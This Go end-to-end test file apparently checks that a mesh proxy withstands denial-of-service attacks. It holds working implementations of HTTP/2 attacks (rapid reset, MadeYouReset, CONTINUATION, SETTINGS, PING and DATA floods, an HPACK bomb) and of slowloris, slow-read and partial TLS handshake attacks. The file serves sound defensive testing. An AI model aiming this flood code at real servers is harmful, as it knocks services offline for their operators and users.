package e2e

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is one way to trouble a proxy. run attacks over one connection until that breaks or the
// deadline of the connection passes.
type attack struct {
	name string
	// at is the port: 15008 as a workload of the mesh that went bad, 15001 as a bad application,
	// 15443 as anybody.
	at    int
	conns int // at once
	// ends says that the proxy must end each connection long before the attacker would.
	ends bool
	// logs, if not empty, is what the proxy must say of it.
	logs string
	run  func(c net.Conn)
}

// h2 is a client of HTTP/2 with bad manners.
type h2 struct {
	*http2.Framer
	c    net.Conn
	out  *bufio.Writer
	enc  *hpack.Encoder
	head bytes.Buffer
}

// stepsMax is more than any honest budget allows.
const stepsMax = 1 << 20

// flood makes an attack of a step that is repeated. Frames are sent in large writes, as a flood is,
// and what comes back is read and thrown away.
func flood(start func(*h2), step func(f *h2, stream uint32)) func(net.Conn) {
	return func(c net.Conn) {
		f := &h2{c: c, out: bufio.NewWriterSize(c, 16<<10)}
		f.Framer = http2.NewFramer(f.out, c)
		f.Framer.AllowIllegalWrites = true
		f.enc = hpack.NewEncoder(&f.head)
		gone := make(chan struct{})
		go func() {
			defer close(gone)
			_, _ = io.Copy(io.Discard, c)
		}()
		defer func() { c.Close(); <-gone }()
		fmt.Fprint(f.out, http2.ClientPreface)
		_ = f.WriteSettings()
		if start != nil {
			start(f)
		}
		for i := range uint32(stepsMax) {
			step(f, 2*i+1)
			if f.out.Buffered() > 12<<10 {
				if f.out.Flush() != nil {
					return
				}
				select {
				case <-gone:
					return
				default:
				}
			}
		}
		_ = f.out.Flush()
	}
}

// block encodes a request for the service, with more fields.
func (f *h2) block(method string, more ...string) []byte {
	f.head.Reset()
	more = append([]string{":method", method, ":scheme", "http", ":authority", "echo.demo", ":path", "/", "isthmus-to", "demo/echo:80"}, more...)
	for i := 0; i+1 < len(more); i += 2 {
		_ = f.enc.WriteField(hpack.HeaderField{Name: more[i], Value: more[i+1]})
	}
	return f.head.Bytes()
}

func (f *h2) request(stream uint32, end bool, method string, more ...string) {
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.block(method, more...), EndStream: end, EndHeaders: true})
}

var attacks = []attack{
	{"rapid reset (CVE-2023-44487)", 15008, 1, true, "floods it", flood(nil, func(f *h2, s uint32) {
		f.request(s, true, "GET")
		_ = f.WriteRSTStream(s, http2.ErrCodeCancel)
	})},
	{"MadeYouReset (CVE-2025-8671)", 15008, 1, true, "floods it", flood(nil, func(f *h2, s uint32) {
		f.request(s, false, "POST")
		_ = f.WriteWindowUpdate(s, 0)
	})},
	{"CONTINUATION flood (CVE-2024-24549 and kin)", 15008, 1, true, "floods it", flood(func(f *h2) {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET")})
	}, func(f *h2, _ uint32) { _ = f.WriteContinuation(1, false, nil) })},
	{"SETTINGS flood (CVE-2019-9515)", 15008, 1, true, "floods it", flood(nil, func(f *h2, _ uint32) { _ = f.WriteSettings() })},
	{"PING flood (CVE-2019-9512)", 15008, 1, true, "floods it", flood(nil, func(f *h2, _ uint32) { _ = f.WritePing(false, [8]byte{}) })},
	{"empty DATA flood (CVE-2019-9518)", 15008, 1, true, "floods it", flood(func(f *h2) { f.request(1, false, "POST") },
		func(f *h2, _ uint32) { _ = f.WriteData(1, false, nil) })},
	{"HPACK bomb", 15008, 1, true, "floods it", flood(func(f *h2) {
		f.request(1, true, "GET", "x-bomb", strings.Repeat("b", 3800))
	}, func(f *h2, s uint32) {
		// One octet names the last field of the dynamic table: 4,000 in a block decode to 15 MB.
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: s + 2, EndStream: true, EndHeaders: true,
			BlockFragment: append(slices.Clone(f.block("GET")), bytes.Repeat([]byte{0x80 | 62}, 4000)...)})
	})},
	{"100,000 header fields", 15008, 1, true, "floods it", flood(func(f *h2) {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET")})
	}, func(f *h2, s uint32) {
		f.head.Reset()
		for i := range 500 {
			_ = f.enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d-%d", s, i), Value: "v", Sensitive: true})
		}
		_ = f.WriteContinuation(1, false, f.head.Bytes())
	})},
	{"zero window", 15008, 4, false, "takes no answers", func(c net.Conn) {
		f := &h2{c: c, out: bufio.NewWriter(c)}
		f.Framer = http2.NewFramer(f.out, c)
		f.enc = hpack.NewEncoder(&f.head)
		fmt.Fprint(f.out, http2.ClientPreface)
		_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for s := uint32(1); s < 400; s += 2 {
			f.request(s, true, "GET", "x-fill", strings.Repeat("z", 1000))
		}
		_ = f.out.Flush()
		_, _ = io.Copy(io.Discard, c) // answers wait for a window that never opens
	}},
	{"slow read", 15008, 4, false, "", func(c net.Conn) {
		f := &h2{c: c, out: bufio.NewWriter(c)}
		f.Framer = http2.NewFramer(f.out, c)
		f.enc = hpack.NewEncoder(&f.head)
		fmt.Fprint(f.out, http2.ClientPreface)
		_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
		_ = f.WriteWindowUpdate(0, 1<<30)
		for s := uint32(1); f.out.Flush() == nil; s += 2 { // answers that nobody reads fill the socket
			f.request(s, true, "GET", "x-fill", strings.Repeat("z", 8000))
		}
	}},
	{"slowloris", 15001, 200, false, "", func(c net.Conn) {
		fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: echo.demo\r\n")
		for dribble(c, "x: y\r\n") {
		}
	}},
	{"slow body", 15001, 200, false, "", func(c net.Conn) {
		fmt.Fprint(c, "POST / HTTP/1.1\r\nHost: echo.demo\r\nContent-Length: 1000000\r\n\r\n")
		for dribble(c, "b") {
		}
	}},
	{"pipelined requests whose answers are not read", 15001, 20, false, "", func(c net.Conn) {
		line := "GET / HTTP/1.1\r\nHost: echo.demo\r\nx-fill: " + strings.Repeat("z", 8000) + "\r\n\r\n"
		for {
			if _, err := io.WriteString(c, line); err != nil {
				return
			}
		}
	}},
	{"a head without end", 15001, 4, true, "head_too_large", func(c net.Conn) {
		fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: echo.demo\r\n")
		for i := range stepsMax {
			if _, err := fmt.Fprintf(c, "x-%d: %s\r\n", i, strings.Repeat("h", 1000)); err != nil {
				return
			}
		}
	}},
	{"half a ClientHello", 15443, 400, false, "", func(c net.Conn) {
		hello := []byte{22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3}
		_, _ = c.Write(hello)
		for dribble(c, "\x00") {
		}
	}},
	{"a ClientHello in records of one octet", 15443, 20, true, "", func(c net.Conn) {
		for range stepsMax {
			if _, err := c.Write([]byte{22, 3, 1, 0, 1}); err != nil {
				return
			}
			if _, err := c.Write([]byte{1}); err != nil {
				return
			}
		}
	}},
}

// dribble sends a little and waits a little; it reports whether to go on.
func dribble(c net.Conn, text string) bool {
	if _, err := io.WriteString(c, text); err != nil {
		return false
	}
	_ = c.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
	_, err := c.Read(make([]byte, 512))
	return err == nil || os.IsTimeout(err)
}
